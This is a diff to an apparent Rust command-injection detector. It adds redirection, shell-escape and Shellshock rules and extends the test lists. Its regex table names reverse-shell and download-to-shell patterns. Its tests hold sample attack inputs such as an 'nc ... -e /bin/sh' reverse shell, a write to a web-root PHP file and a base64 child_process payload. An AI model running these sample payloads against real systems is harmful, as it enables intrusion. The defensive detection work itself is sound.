@@ -126,6 +126,13 @@ const BASE64_MARKERS: &[&str] = &[
 /// Commands that run the command after them (`nohup ifconfig`, `sudo -u x id`). Sorted.
 const WRAPPERS: &[&str] = &["busybox", "env", "exec", "ltrace", "nice", "nohup", "strace", "sudo", "time", "timeout", "watch", "xargs"];
 
+/// Gate for `>`: a redirection that starts the value or a command (`>/tmp/x`, `; 2>> /dev/x`).
+fn redirection(b: &[u8], s: usize, e: usize) -> bool {
+    let before = b[..s].iter().rev().take(16).find(|c| !c.is_ascii_digit() && **c != b' ');
+    let target = skip_space(b, e + usize::from(b.get(e) == Some(&b'>')));
+    matches!(before, None | Some(b';' | b'|' | b'&')) && b.get(target) == Some(&b'/')
+}
+
 /// Gate for `-e`: an option on its own (`nc host 80 -e sh`), not a hyphenated word.
 fn exec_option(b: &[u8], s: usize, e: usize) -> bool {
     s > 0 && b[s - 1] == b' ' && b.get(e) == Some(&b' ')
@@ -191,10 +198,12 @@ impl Cmdi {
         let start_then_sep = format!(r"^\s*(?:{DANGEROUS})(?:\.exe)?\s*(?:[;|]|&&)");
         let start_cmd = format!(r"^\s*(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{STRONG})(?:\.exe)?\s+(?:-[a-z-]|/[a-z.]|[a-z0-9_.-]+\.(?:sh|sql|zip|gz|txt|yml|py|pl|rb|exe|bat)\b|-c\b|install\b|all\b|report\b|dump\b|decrypt\b|[a-z]+\s+-)");
         let base64_js = BASE64_MARKERS.join("|");
+        let shell_escape = format!(r"(?:^|[\s:;|\\])!\s*(?:{DANGEROUS})\b");
         let table = [
             (base64_js.as_str(), Critical, 0.9, "base64-encoded server-side JavaScript"),
-            (r"\(\s*\)\s*\{\s*[^}]*\}\s*;", Critical, 0.95, "Shellshock function definition"),
-            (r"\(\s*\)\s*\{\s*:?\s*;?", Critical, 0.9, "Shellshock function definition"),
+            // Bash imports a function from any variable whose value *starts* with `() {`.
+            (r#"^\s*['\x22]?\s*\(\s*\)\s*\{\s*[^}]*\}\s*;"#, Critical, 0.95, "Shellshock function definition"),
+            (r#"^\s*['\x22]?\s*\(\s*\)\s*\{\s*:?\s*;?"#, Critical, 0.9, "Shellshock function definition"),
             (r"/dev/(?:tcp|udp)/|\b(?:bash|sh)\s+-i\b|\bnc(?:at)?\b[^|;]*\s-[a-z]*e\s|\bmkfifo\b|\d>&\d|\bexec\s+\d*<>", Critical, 0.95, "reverse shell"),
             (r"\b(?:curl|wget|fetch)\b[^|;]*\|\s*(?:ba|z|k)?sh\b", Critical, 0.95, "download piped to a shell"),
             (r"(?:require\s*\(\s*['`]child_process['`]\s*\)|child_process|process\s*\.\s*(?:mainmodule|binding|env\b|\[)|process\[|process\s*\[\s*['`\x22]|_\$\$nd_func\$\$_|\bconstructor\s*\.\s*constructor\b|\brequire\s*\.\s*main\b|\bnew\s+function\s*\(|module\s*\.\s*exports\s*=|\bconsole\s*(?:\.\s*[a-z]+|\[\s*['`][a-z]+['`]\s*\])\s*(?:\.\s*call\s*)?\(|\brequire\s*\[|__js_function|\bfunction\s*\(\s*\)\s*\{|\beval\s*\(\s*string\s*\.\s*fromcharcode)", High, 0.85, "server-side JavaScript code injection"),
@@ -206,10 +215,12 @@ impl Cmdi {
             (wrapped.as_str(), High, 0.85, "command run through a wrapper"),
             (start_then_sep.as_str(), High, 0.8, "command line"),
             (r"(?:^|[;&|\s])[a-z_][a-z0-9_]*=[^\s;&|]*\s*(?:[;|\n]|&&|\|\|)(?:.*(?:[;|\n]|&&|\|\|))?\s*\$\{?[a-z_][a-z0-9_]*\}?(?:\s|$)", High, 0.8, "command from an assigned variable"),
-            (r"(?:^|[\s;|&=<>(`+])/(?:[a-z0-9]*[?*][a-z0-9?*]*/[a-z0-9?*]+|(?:s?bin|usr|etc|dev|proc|tmp|var|home|root)/(?:[a-z0-9]+[?*]|[?*]+[a-z0-9])[a-z0-9?*]*(?:[\s/;|]|$))", High, 0.8, "wildcards in a system path"),
+            (r"(?:^|[\s;|&=<>(`+])/(?:(?:[a-z0-9]+[?*]|\*?\?|\*+[a-z0-9])[a-z0-9?*]*/[a-z0-9?*]+|(?:s?bin|usr|etc|dev|proc|tmp|var|home|root)/(?:[a-z0-9]+[?*]|[?*]+[a-z0-9])[a-z0-9?*]*(?:[\s/;|]|$))", High, 0.8, "wildcards in a system path"),
             (r"\$\(\s*[a-z]+[^)]*\)|(?:^|[^\s`])`\s*(?:/bin/)?(?:whoami|id|uname|cat|ls|sleep|ping|nslookup|curl|wget|sh|bash|echo|dig|cut|ifconfig)\b[^`]*`", Critical, 0.85, "command substitution"),
             (r"(?:^|\s)(?:ba|z|k)?sh\s+-c\b|\bcmd(?:\.exe)?\s+/[ck]\b|\bpowershell(?:\.exe)?\s+-(?:c|e|enc|nop|w|command|exec)", High, 0.85, "shell invoked with a command"),
             (start_cmd.as_str(), High, 0.7, "command line"),
+            (r"(?:^|[;|&])\s*\d*>>?\s*/(?:tmp|dev|etc|var|usr|s?bin|home|root|proc)/\S", High, 0.8, "redirection into a system path"),
+            (shell_escape.as_str(), High, 0.8, "shell escape"),
             (r"[;|&`]\s*[a-z]{1,4}\s*\{?[^}\s]*\}?\s*(?:<<<|>>?\s*/)", High, 0.8, "shell redirection"),
             (r"\{[a-z-]*,[a-z0-9-]*(?:,[a-z0-9-]*)*\}", High, 0.7, "brace expansion"),
             (r"(?:^|[;|&\s])~[+-]\d*$", High, 0.7, "tilde expansion"),
@@ -338,6 +349,8 @@ impl Check for Cmdi {
             gated(".load", sqlite_dot_command),
             gated(".sh", sqlite_dot_command),
             gated("-e", exec_option),
+            gated(">", redirection),
+            gated("!", command_follows),
             gated("?", glob_component),
             gated("*", glob_component),
             gated("eval", starts_word),
@@ -462,6 +475,9 @@ mod tests {
                 "/???/??ho hi",
                 "1;.sh id",
                 "nc 10.1.1.1 9 -e /bin/sh",
+                ">/var/www/html/x.php",
+                "1; 2>>/tmp/log",
+                ":silent !bash",
                 "session=eyJ4IjoiXyQkTkRfRlVOQyQkX2Z1bmN0aW9uKCl7fSJ9",
                 "cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLnNwYXduKCdscycp",
                 "process[\"mainModule\"]",
@@ -491,12 +507,18 @@ mod tests {
                 "Use the -e flag with grep -e pattern",
                 "time to go; nice weather",
                 "It costs $a lot",
+                "Great!whoami is a weird word",
+                "a > /tmp is a path",
+                "<b>x</b> > /etc/motd",
+                "class Foo { constructor() { this.a = () => {}; } }",
                 ";$x $y $z",
                 "ls? Not sure",
                 "sudo make me a sandwich",
                 "whoami is a command",
                 "glob /usr/*.txt files",
                 "https://example.com/home/?",
+                "/*/items",
+                "route /api/*/posts/*",
                 "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.c2lnbmF0dXJl",
                 "The process [see above] is simple",
                 "https://example.com/var/?utm=1&x=2",
